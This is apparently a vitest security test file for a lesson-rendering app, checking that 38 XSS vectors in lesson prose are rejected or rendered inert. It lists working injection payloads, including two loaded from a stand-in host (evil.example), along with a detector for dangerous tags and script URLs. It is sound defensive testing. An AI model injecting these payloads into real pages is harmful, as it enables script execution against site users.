import { describe, expect, it } from 'vitest';
import { ContentErrors } from '$lib/source';
import { parseLesson } from '$lib/server/lessons';
import { proseLesson } from './helpers';

/**
 * Issue 9's reliability suite, XSS: each vector, written by an instructor in a lesson's prose, is
 * either refused at its file and line or comes out inert in the HTML the page is built from: no
 * element that runs or embeds code, no event-handler attribute, no script URL. 38 vectors.
 */
const VECTORS = [
	'<script>alert(1)</script>',
	'<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
	'<script/x>alert(1)</script>',
	'<img src=x onerror=alert(1)>',
	'<img src="x" ONERROR="alert(1)">',
	'<img src=x:alert(alt) onerror=eval(src) alt=0>',
	'<svg onload=alert(1)>',
	'<svg><script>alert(1)</script></svg>',
	'<math><mtext><script>alert(1)</script></mtext></math>',
	'<body onload=alert(1)>',
	'<iframe src="javascript:alert(1)"></iframe>',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	'<object data="javascript:alert(1)"></object>',
	'<embed src="javascript:alert(1)">',
	'<a href="javascript:alert(1)">x</a>',
	'<a href=" JaVaScRiPt:alert(1)">x</a>',
	'<a href="jav&#x09;ascript:alert(1)">x</a>',
	'<a href="&#106;avascript:alert(1)">x</a>',
	'<a href="vbscript:msgbox(1)">x</a>',
	'<a href="data:text/html,<script>alert(1)</script>">x</a>',
	'[x](javascript:alert(1))',
	'[x](JAVASCRIPT:alert(1))',
	'[x](<javascript:alert(1)>)',
	'![x](javascript:alert(1))',
	'<javascript:alert(1)>',
	'[x][r]\n\n[r]: javascript:alert(1)',
	'<div style="background:url(javascript:alert(1))">x</div>',
	'<style>*{background:url(javascript:alert(1))}</style>',
	'<link rel=stylesheet href=//evil.example/x.css>',
	'<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
	'<form action="javascript:alert(1)"><button>x</button></form>',
	'<button formaction="javascript:alert(1)">x</button>',
	'<input onfocus=alert(1) autofocus>',
	'<details open ontoggle=alert(1)>',
	'<base href="javascript:/">',
	'<a href="#" onmouseover="alert(1)">x</a>',
	'$\\href{javascript:alert(1)}{x}$',
	'$$\\url{javascript:alert(1)}$$'
];

const FILE = 'content/01-xss.md';

/** Every HTML string a lesson carries to the page (prose, exercise text, hints…). */
function htmlOf(value: unknown, out: string[] = []): string[] {
	if (typeof value === 'string') out.push(value);
	else if (Array.isArray(value)) for (const v of value) htmlOf(v, out);
	else if (value && typeof value === 'object') for (const [k, v] of Object.entries(value)) if (k !== 'source' && k !== 'text') htmlOf(v, out);
	return out;
}

/** Why an HTML string is not inert, or undefined. Entities and blanks are undone first, as a browser would. */
function danger(html: string): string | undefined {
	for (const tag of html.matchAll(/<([a-zA-Z][\w:-]*)([^>]*)>/g)) {
		const [, name = '', attributes = ''] = tag;
		if (/^(script|iframe|object|embed|style|link|meta|base|form|svg|frame|frameset|applet)$/i.test(name)) return `<${name}>`;
		for (const [, attr = '', raw = ''] of attributes.matchAll(/([^\s=/]+)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)/g)) {
			if (/^on/i.test(attr) || /^(srcdoc|formaction|style)$/i.test(attr)) return `${attr}=`;
			const url = decode(raw.replace(/^["']|["']$/g, '')).replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
			if (/^(javascript|vbscript|data):/.test(url)) return `${attr}=${url.slice(0, 20)}`;
		}
	}
	return undefined;
}
const decode = (s: string) =>
	s.replace(/&#x([0-9a-f]+);?/gi, (_, h: string) => String.fromCodePoint(parseInt(h, 16))).replace(/&#(\d+);?/g, (_, d: string) => String.fromCodePoint(Number(d))).replace(/&colon;/gi, ':').replace(/&tab;|&newline;/gi, '');

describe(`${VECTORS.length} XSS vectors in a lesson`, () => {
	it('are at least the 38 the issue measured', () => expect(VECTORS.length).toBeGreaterThanOrEqual(38));

	it.for(VECTORS)('%s: refused at its line, or inert', (vector) => {
		const text = proseLesson(`Before.\n\n${vector}\n\nAfter.`);
		let lesson;
		try {
			lesson = parseLesson(text, FILE);
		} catch (e) {
			expect(e).toBeInstanceOf(ContentErrors);
			for (const error of (e as ContentErrors).errors) {
				expect(error.message).toMatch(new RegExp(`^${FILE}:\\d+: `));
				expect(error.line).toBeGreaterThanOrEqual(9);
				expect(error.message).not.toContain('please report it');
			}
			return;
		}
		const shown = htmlOf(lesson);
		expect(shown.some((h) => h.includes('<p>After.</p>')), 'the page HTML was looked at').toBe(true);
		for (const html of shown) expect(danger(html), html).toBeUndefined();
	});

	it('finds what it looks for (the checker is not blind)', () => {
		expect(danger('<p><img src="x" onerror="alert(1)"></p>')).toBe('onerror=');
		expect(danger('<a href="jav&#x09;ascript:alert(1)">x</a>')).toBe('href=javascript:alert(1)');
		expect(danger('<iframe></iframe>')).toBe('<iframe>');
		expect(danger('<p>Some <em>stress</em> and <a href="https://example.org">a link</a>.</p>')).toBeUndefined();
	});
});
